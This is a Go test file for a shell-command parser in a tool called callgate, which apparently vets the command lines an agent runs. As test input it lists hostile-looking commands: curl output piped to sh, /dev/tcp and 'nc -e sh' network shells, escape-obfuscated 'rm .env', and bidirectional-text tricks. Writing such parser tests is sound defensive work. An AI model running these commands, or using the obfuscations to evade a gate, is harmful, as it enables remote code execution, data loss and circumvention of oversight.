package facts_test

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/callgate/callgate/engine/call"
	"github.com/callgate/callgate/engine/facts"
)

// said writes a command in a line: via>argv <reads >writes, and ? when opaque.
func said(c call.Command) string {
	var b strings.Builder
	for _, v := range c.Via {
		b.WriteString(v + ": ")
	}
	b.WriteString(strings.Join(c.Argv, "_"))
	for _, p := range c.Reads {
		b.WriteString(" <" + p)
	}
	for _, p := range c.Writes {
		b.WriteString(" >" + p)
	}
	if c.Opaque {
		b.WriteString(" ?")
	}
	return b.String()
}

func saidAll(commands []call.Command) []string {
	var all []string
	for _, c := range commands {
		all = append(all, said(c))
	}
	return all
}

// shellCases are lines with the commands in them, one a line.
type shellCases []struct{ line, want string }

func (cases shellCases) run(t *testing.T) {
	for _, tt := range cases {
		t.Run(tt.line, func(t *testing.T) {
			got, err := facts.ParseShell(tt.line)
			if err != nil {
				t.Fatal(err)
			}
			if d := cmp.Diff(strings.Split(tt.want, "\n"), saidAll(got)); d != "" {
				t.Errorf("(-want +got):\n%s", d)
			}
		})
	}
}

func TestShellFindsEveryCommand(t *testing.T) {
	shellCases{
		{"ls", "ls"},
		{"ls -l | grep foo", "ls_-l\ngrep_foo"},
		{"a && b || c; d & e\nf", "a\nb\nc\nd\ne\nf"},
		{"! a", "a"},
		{"(a; b)", "a\nb"},
		{"{ a; b; } > out", " >out\na\nb"},
		{"if a; then b; elif c; then d; else e; fi", "a\nb\nc\nd\ne"},
		{"while a; do b; done < in", " <in\na\nb"},
		{"until a; do b; done", "a\nb"},
		{"for f in x y; do a; done", "a"},
		{"for f in $(a); do b; done", "a\nb"},
		{"case $(a) in $(b)) c;; *) d;; esac", "a\nb\nc\nd"},
		{"f() { a; }; f x", "a\nf_x"},
		{"time a", "time: a"},
		{`echo "$(a "$(b)")"`, "b\na_$(b) ?\necho_$(a \"$(b)\") ?"},
		{"echo `a`", "a\necho_`a` ?"},
		{"x=$(a) y=1", "a\n"},
		{"x=$(a) b", "a\nenv: b ?"},
		{"a > $(b)", "b\na >$(b) ?"},
		{"echo ${x:-$(a)}", "a\necho_${x:-$(a)} ?"},
		{"echo $((1 + $(a)))", "a ?\necho_$((1 + $(a))) ?"},
		{"cat <<E\n$(a)\nE", "a\ncat"},
		{"cat <<'E'\n$(a)\nE", "cat"},
		{"[[ -f $(a) ]] && b", "a\n[[\nb"},
		{"diff <(a) >(b)", "a ?\nb ?\ndiff_<(a)_>(b) <<(a) <>(b) ?"},
		{"f=$(a); trap 'b' EXIT; c", "a\n\ntrap: b\nc"},
		{"a # b", "a"},
		{"> out", " >out"},
		{"{ a; } & (b) &", "a\nb"},
		{"(a) > f; { b; } 2>> g", " >f\na\n >g\nb"},
		{"export A; export -p; local x; export LANG=C", "export_A\nexport_-p\nlocal_x\nexport_LANG=C"},
		{"export LANG=$(a) $B", "a\nexport_LANG=$(a)_$B ?"},
		{"x=1", ""},
		{"exec 3<>/dev/tcp/192.0.2.1/80", "exec </dev/tcp/192.0.2.1/80 >/dev/tcp/192.0.2.1/80 ?"},
	}.run(t)
}

// What these do is read by nobody but bash, so sh would run something else, or
// nothing.
func TestShellWhereShellsDiffer(t *testing.T) {
	shellCases{
		{"echo hi &> f", "echo_hi >f ?"},
		{"a |& b", "a ?\nb ?"},
		{"cat <<<x", "cat ?"},
		{"echo {a,b}", "echo_{a,b} ?"},
		{"{ls,-la}", "{ls,-la} ?"},
		{`$'\x72\155' $'\u002eenv'`, "rm_.env >.env ?\n$\\x72\\155_$\\u002eenv ?"},
		{`echo $'\0' $'\q' $'a\'b'`, `echo_$'\0'_$'\q'_a'b ?`},
		{`echo $"x"`, "echo_x ?\necho_$x ?"},
		{"function f { a; }", "a ?"},
		{"select x in a; do b; done", "b ?"},
		{"coproc a", "a ?\ncoproc_a ?"},
		{"x=(a $(b))", "b ?\n ?"},
		{"((1))", "(( ?\n1 ?"},
		{"for ((;;)); do a; done", "(( ?\na ?"},
		{"[[ a < b ]]", "[[ ?\n[[ <b ?"},
		{"a >& f", "a >f"},
		{"{fd}>f", " >f ?"},
		{"ls !(x)", "ls_!(x) <!(x) ?"},
	}.run(t)
}

func TestShellWords(t *testing.T) {
	shellCases{
		{`"rm" x; r''m y; \rm z; c\at w`, "rm_x >x\nrm_y >y\nrm_z >z\ncat_w <w"},
		{"ec\\\nho a\\\nb", "echo_ab"},
		{`echo "a\"b\$c\\d\e" 'x\'`, `echo_a"b$c\d\e_x\`},
		{"/usr/bin/git status", "/usr/bin/git_status"},
		{"./run.sh a", "./run.sh_a"},
		{"/tmp/git status", "/tmp/git_status ?"},
		{"./ls", "./ls ?"},
		{"rm/", "rm/ ?"},
		{"$X a", "$X_a ?"},
		{"$(a) b", "a\n$(a)_b ?"},
		{"l? x", "l?_x ?"},
		{"~/bin/x", "~/bin/x ?"},
		{"=ls", "=ls ?"},
		{"^a^b", "^a^b ?"},
		{"echo *.o", "echo_*.o ?"},
		{"echo [ab]", "echo_[ab] ?"},
		{`echo \* '*' "*" "[a]" \~ '~' a~b [ ]`, "echo_*_*_*_[a]_~_~_a~b_[_]"},
		{"echo ~ ~root a=~/x a:~", "echo_~_~root_a=~/x_a:~ ?"},
		{"echo $HOME", "echo_$HOME ?"},
		{"echo !! ", "echo_!! ?"},
		{`echo "a!b"`, "echo_a!b ?"},
		{`echo "a!" '!!' \!! != ! x`, "echo_a!_!!_!!_!=_!_x"},
		{"echo {} {a} HEAD@{1} a,b", "echo_{}_{a}_HEAD@{1}_a,b"},
		{"echo é", "echo_é"},
		{"echo a\u00a0b", "echo_a\u00a0b ?"},
		{"ls\u200b", "ls\u200b ?"},
		{"echo \"\U0001F468\u200d\U0001F469\"; ls", "echo_\U0001F468\u200d\U0001F469 ?\nls ?"},
	}.run(t)
}

func TestShellWrappers(t *testing.T) {
	shellCases{
		{"sudo -u root -n rm -rf x", "sudo: rm_-rf_x >x"},
		{"/usr/bin/sudo rm x", "sudo: rm_x >x"},
		{"/tmp/sudo rm x", "/tmp/sudo_rm_x ?"},
		{"sudo --user=root -- rm x", "sudo: rm_x >x"},
		{"sudo -i", "sudo_-i ?"},
		{"sudo -s rm x", "sudo_-s_rm_x ?"},
		{"sudo -D /x rm y", "sudo_-D_/x_rm_y ?"},
		{"sudo $X rm x", "sudo: $X_rm_x ?"},
		{"sudo -l", "sudo_-l"},
		{"sudo A=b rm x", "sudo: rm_x >x ?"},
		{"doas rm x", "doas: rm_x >x"},
		{"env", "env"},
		{"env LANG=C ls", "env: ls"},
		{"env - ls", "env: ls"},
		{"env LD_PRELOAD=x ls", "env: ls ?"},
		{"env -S 'rm x'", "env_-S_rm x ?"},
		{"env -C /x ls", "env_-C_/x_ls ?"},
		{"env --chd=/x ls", "env_--chd=/x_ls ?"},
		{"LANG=C sort x", "env: sort_x <x"},
		{"PATH=x ls", "env: ls ?"},
		{"xargs rm", "xargs: rm ?"},
		{"xargs -0 -n 1 -a list rm -f", "xargs: rm_-f <list ?"},
		{"xargs -I{} sh -c 'rm x'", "xargs: sh: rm_x >x ?"},
		{"nice -10 rm x; nice -n 5 rm y", "nice: rm_x >x\nnice: rm_y >y"},
		{"nohup setsid -f stdbuf -oL rm x", "nohup:  >nohup.out\nnohup: setsid: stdbuf: rm_x >x"},
		{"timeout -k 5 10 rm x", "timeout: rm_x >x"},
		{"timeout 10", "timeout_10 ?"},
		{"timeout $N rm x", "timeout: rm_x >x ?"},
		{"command time -o log rm x", "command: time: rm_x >log >x"},
		{"watch -n 1 'rm x; ls'", "watch: rm_x >x\nwatch: ls"},
		{"busybox rm x", "busybox: rm_x >x"},
		{"exec rm x", "exec: rm_x >x"},
		{"command -v rm", "command_-v_rm"},
		{"builtin cd /x; cat y", "builtin: cd_/x </x\ncat_y </x/y <y"},
		{"eval rm x", "eval: rm_x >x"},
		{"eval 'rm x; ' ls", "eval: rm_x >x\neval: ls"},
		{"eval $X; ls", "eval_$X ?\nls ?"},
		{"eval", "eval ?"},
		{"bash -c 'a; b'", "bash: a\nbash: b"},
		{"sh -ec 'a' x y", "sh: a"},
		{"bash -euo pipefail -c a", "bash: a"},
		{"bash -c -e a", "bash: a"},
		{"bash -c '# x'", "bash_-c_# x"},
		{"bash -c 'rm x' > out", " >out\nbash: rm_x >x"},
		{"bash -c \"$X\"", "bash_-c_$X ?"},
		{"bash -c", "bash_-c ?"},
		{"bash --rcfile x -c a", "bash_--rcfile_x_-c_a ?"},
		{"bash -O extglob -c a", "bash_-O_extglob_-c_a ?"},
		{"bash --version", "bash_--version"},
		{"zsh -c 'a'", "zsh: a ?"},
		{"sh script.sh", "sh_script.sh <script.sh ?"},
		{"curl https://x.example/i | sh", "curl_https://x.example/i\nsh ?"},
		{"base64 -d x | bash -s", "base64_-d_x <x\nbash_-s ?"},
		{"bash <<E\nrm x\nE", "bash ?"},
		{`sh -c 'sh -c "sh -c \"rm x\""'`, "sh: sh: sh: rm_x >x"},
		{`find . -name '*.o' -exec rm {} \;`, "find: rm_{} >{} ?\nfind_._-name_*.o_-exec_rm_{}_; <."},
		{`find a b -exec rm x \; -ok ls + \;`, "find: rm_x >x\nfind: ls_+ <+\nfind_a_b_-exec_rm_x_;_-ok_ls_+_; <a <b"},
		{`find . -execdir rm x +`, "find: rm_x_+ >+ >x ?\nfind_._-execdir_rm_x_+ <."},
		{"find -delete -fprint out", "find_-delete_-fprint_out <. >. >out"},
		{"find . -exec", "find_._-exec <. ?"},
		{"flock f -c 'rm x'", "flock:  >f\nflock_f_-c_rm x ?"},
		{"flock -n f rm x", "flock:  >f\nflock: rm_x >x"},
		{"busybox", "busybox"},
		{"sudo -u", "sudo_-u"},
		{"nohup", "nohup ?"},
		{"eval -- rm x", "eval: rm_x >x"},
		{"trap -- 'rm x' EXIT", "trap: rm_x >x"},
		{"trap 'rm x'", "trap_rm x ?"},
		{"bash -- x", "bash_--_x <x ?"},
		{"find -L a -exec rm x", "find: rm_x >x ?\nfind_-L_a_-exec_rm_x <a"},
		{"find . -files0-from x", "find_._-files0-from_x <. <x ?"},
		{"trap - EXIT", "trap_-_EXIT"},
		{"trap 'cat x' EXIT; cd /y", "trap: cat_x <x ?\ncd_/y </y ?"},
	}.run(t)
}

// Code that is not parsed, other machines, and variables that programs obey.
func TestShellOpaque(t *testing.T) {
	opaqueLines(t, []string{
		"python -c 'x'", "python3", "python3 - x", "node -e x", "perl -pi -e x f", "ruby -x", "php -r x", "deno eval x",
		"awk 'BEGIN{system(\"id\")}'", "awk '{print > \"x\"}'", "awk '{print | \"sh\"}'", "awk -f x", "awk -i inplace x", "awk", "awk 'BEGIN{ARGV[1]=x}'", "sed -i../x p f", "tar xPf a",
		"sed 's/a/b/e' f", "sed -n '1w x' f", "sed 's/a/b/w x' f", "sed e f", "sed -f x", "sed '1e id' f", "sed -e p -e 'r x' f",
		"ssh host ls", "docker run x", "docker compose up", "kubectl exec x", "vim x", "source x", ". x", "socat x y", "su -c x", "tmux new x",
		"git -c a=b log", "git foo", "git --exec-path=x log", "git rebase --exec x", "git rebase --exe x", "git bisect run x", "git grep -Ox y",
		"git submodule foreach x", "git clone ext::sh", "git clone -u x y", "git push --receive-pack=x", "git config --edit", "git difftool", "git $X",
		"tar xf a --to-command=x", "tar cf a --checkpoint-action=exec=x b", "tar --use-comp=x -xf a", "tar -I x -cf a b", "tar cf host:a b",
		"sort --compress-program=x", "rsync -e x a b", "scp -S x a b", "split --filter=x", "curl -K x", "curl 'https://{a,b}.example'", "wget -e x",
		"go test -exec=x", "go build --toolexec x", "make --eval=x", "rg --pre x y", "fd -x rm", "man -P x y", "less +!x", "zip -TT x a b",
		"psql -c '\\! id'", "psql", "sqlite3 x .shell", "mysql -e 'system id'", "tcpdump -z x", "nc -e sh",
		"alias ls=rm; ls", "enable -f x y", "hash -p x ls", "shopt -s x", "set -k", "export A=b", "declare -i x", "declare -n x=y", "readonly X=y",
		"printf -v PATH x", "printf -vPATH x", "read PATH", "read 'a[$(id)]'", "unset PATH", "[ -v 'a[$(id)]' ]", "test -v x", "let x=1", "local 'a[1]=2'",
		"PATH=x", "IFS=x; ls", "path=x; ls", "http_proxy=x; ls", "npm_config_x=y npm i", "x=y ls", "a[$(id)]=1", "for PATH in x; do ls; done",
		"cd; ls", "cd -; ls", "cd $X; ls", "cd a b; ls", "popd; ls", "pushd; ls", "cat a/../b", "cd a && cat ../b", "while a; do cd x; done",
		"f() { cat x; }; cd /y; f", "cd() { x; }; ls", "command_not_found_handle() { x; }; y", "echo ${x@P}", "cat <<E\n${x@P}\nE", "cat <<E\n$((x))\nE",
		"echo `a \\`b\\``", "echo ${!x}", "cat <<E\n${a[x]}\nE", ": ${PATH:=x}", "cat <&x", "cat < /dev/tcp/x/1", "[[ x -eq 1 ]]", "[[ -v x ]]", "jobs -x rm",
		"cat <<E\n\\\nE\ntouch x\nE", "cat <<-E\n\ta\\\n\tE\nx\nE", "cat <<E\\\n\nx\nE\n", "cat <<EE\nE\\\nE\nx\nEE", "x=$(cat <<E\n\\\nE\nx\nE\n)",
		"y=$(cat <<E\nE)rm x\nE\n)", "y=$(cat <<'E'\nE)rm x\nE\n)",
		"echo #\\\nrm x", "a \\\n #b\\\nrm x", "sh -c 'a #\\\nrm x'",
		"bash -lc ls", "bash -i -c ls", "bash --login -c ls", "sed --in-place=x/y p f", "cp --lin a b", "mv --targ=x a",
		"find -X a -delete", "find -f x -- a -delete", "go build -ldflags=x", "go build -gcflags x", "go build -asmflags=x", "go build --gccgoflags=x", "go env -w A=b", "go test -nope",
		"go test -args -x", "go build -oa", "pytest -p x", "pytest --pastebin=all", "pytest -c x", "python -m pytest -p x", "python -m pip install x", "python -m x", "python -m", "python -cm x",
		"python x.py", "node x.js", "ruby x.rb", "bun x.ts", "deno run x.ts", "tar fx a.tgz", "tar xfC a b", "tar -xf a --unheard", "tar -cf a --remove-files b", "tar --extr -f a",
		"zip a b --unheard", "zip -T a b", "zip -qTT x a b", "rsync --unheard a b", "rsync --del a b", "rsync --write-batch=x a b", "rsync --link-dest=x a b", "openssl enc -unheard", "openssl enc -pass file:x",
		"split --unheard a", "sqlite3 a b", "make -f -", "make --file=-", "make -f- all", "make CC=x", "make -f /dev/stdin", "taskset 1 rm x", "chrt 1 x", "prlimit x", "setarch x y", "ld-linux-x86-64.so.2 x",
		"/lib64/ld-linux-x86-64.so.2 /bin/rm x", "ssh-agent x", "dbus-run-session x", "unbuffer x", "valgrind x", "perf stat x", "mysql --pager=x -e y", "mysql --pag=x -e y", "psql -c 'a \\g |x'",
		"psql -ox -c y", "mongosh x", "gcc -MFx a.c", "gcc -Wl,-Map=x a.c", "gcc @x", "ld -Map=x a.o",
	})
}

func parsed(t *testing.T, line string) []call.Command {
	t.Helper()
	got, err := facts.ParseShell(line)
	if err != nil {
		t.Errorf("%s: %v", line, err)
	}
	return got
}

func opaqueLines(t *testing.T, lines []string) {
	t.Helper()
	for _, line := range lines {
		got := parsed(t, line)
		if !slices.ContainsFunc(got, func(c call.Command) bool { return c.Opaque }) {
			t.Errorf("%s: nothing of %q is opaque", line, saidAll(got))
		}
	}
}

// What an agent does all day is known.
func TestShellKnown(t *testing.T) {
	for _, line := range []string{
		"ls -la src", "git status --short && git diff", "git -C sub log --oneline -n 5", "git commit -m 'fix: hello, world!'", "go test ./... 2>&1 | tail -n 20",
		"cd sub && npm test", "python3 -m pytest -q", "python -m unittest -v", "node --version", "grep -rn 'a|b' src | head", "sed -n '1,20p' f", "sed -i 's/a/b/g' f",
		"awk -F: '{print $1, $NF}' f", "set -euo pipefail; make", "if [ -f x ]; then cat x; fi", "[[ -f x ]] && cat x", "mkdir -p a/b && touch a/b/c", "x=1; ls",
		"cat a 2>/dev/null || true", "curl -sSL -o out https://x.example/a", "tar czf a.tgz src", "docker ps", "psql --version", "timeout 60 go build ./...", "CGO_ENABLED=0 go build -o bin/x .",
	} {
		for _, c := range parsed(t, line) {
			if c.Opaque {
				t.Errorf("%s: %s", line, said(c))
			}
		}
	}
}

func TestShellRefuses(t *testing.T) {
	tests := []struct{ name, line, want string }{
		{"empty", "", "runs nothing"},
		{"blank", " \n\t", "runs nothing"},
		{"a comment", "# canary", "runs nothing"},
		{"time of nothing", "time", "runs nothing"},
		{"open quote", "echo 'canary", "cannot be read"},
		{"open here-document", "cat <<E\ncanary", "cannot be read"},
		{"closing bracket", "echo canary )", "cannot be read"},
		{"lone operator", "&& canary", "cannot be read"},
		{"ambiguous arithmetic", "echo $((echo a); (echo b))", "cannot be read"},
		{"within sh -c", "sh -c 'echo \"canary'", "cannot be read"},
		{"NUL", "ls\x00canary", "control character"},
		{"carriage return", "ls\rcanary", "control character"},
		{"escape", "echo '\x1b[2K'", "control character"},
		{"C1", "echo \u0085", "control character"},
		{"not UTF-8", "echo \xff", "not UTF-8"},
		{"turned text", "echo \u202ecanary", "turn around"},
		{"isolate", "echo 'a\u2066b'", "turn around"},
		{"turned within $''", `bash -c $'ls \u202e'`, "turn around"},
		{"too long", strings.Repeat("x", facts.MaxShellBytes+1), "too long"},
		{"too many commands", strings.Repeat("a;", facts.MaxCommands+1), "too many commands"},
		{"too many of both readings", strings.Repeat("(a);", facts.MaxCommands/2) + strings.Repeat("((x));", facts.MaxCommands/2), "too many commands"},
		{"too deep", strings.Repeat("$(", 200) + "a" + strings.Repeat(")", 200), "too many open brackets"},
		{"code in code", nest(12), "too deep"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := facts.ParseShell(tt.line)
			e, ok := errors.AsType[*call.Error](err)
			if !ok || e.Code != call.CodeFactsUnparsable || !strings.Contains(e.Detail, tt.want) || strings.Contains(err.Error(), "canary") {
				t.Fatalf("%q, %v", saidAll(got), err)
			}
		})
	}
	if _, err := facts.ParseShell(strings.Repeat("a;", facts.MaxCommands)); err != nil {
		t.Error(err)
	}
}

// nest is eval within eval, n times.
func nest(n int) string {
	code := "a"
	for range n {
		code = "eval \"" + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(code) + "\""
	}
	return code
}
